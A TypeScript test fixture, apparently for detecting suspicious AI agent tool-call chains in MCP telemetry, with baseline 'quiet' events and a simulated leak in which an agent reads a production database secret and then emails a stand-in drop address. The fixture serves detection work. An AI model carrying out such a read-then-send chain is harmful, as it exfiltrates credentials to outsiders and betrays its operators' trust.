/** Chains are judged once a tenant has some weeks of quiet. */
export const QUIET_DAYS = 24

/** An ordinary call, days ago. */
export const quietDay = (daysAgo: number): object => ({
  event_id: `quiet-${daysAgo}`,
  occurred_at: new Date(Date.now() - daysAgo * 86_400_000).toISOString(),
  outcome: 'success',
  'mcp.method.name': 'tools/call',
  'gen_ai.agent.id': 'regular',
  'mcp.session.id': `quiet-${daysAgo}`,
  'mcp.server.name': 'crm',
  'gen_ai.tool.name': 'get_customer',
})

/** A credential is read, then something goes to a place that is new to the actor. */
export function leak(actor: string, atMs: number): object[] {
  const call = (server: string, tool: string, given: object, offsetMs: number) => ({
    event_id: `${actor}-${tool}`,
    occurred_at: new Date(atMs + offsetMs).toISOString(),
    outcome: 'success',
    'mcp.method.name': 'tools/call',
    'gen_ai.agent.id': actor,
    'mcp.session.id': `session-${actor}`,
    'mcp.server.name': server,
    'gen_ai.tool.name': tool,
    'gen_ai.tool.call.arguments': given,
  })
  return [
    call('vault', 'read_secret', { path: 'prod/db' }, 0),
    call('gmail', 'send_email', { to: `drop@${actor}.example`, body: 'see attachment' }, 60_000),
  ]
}
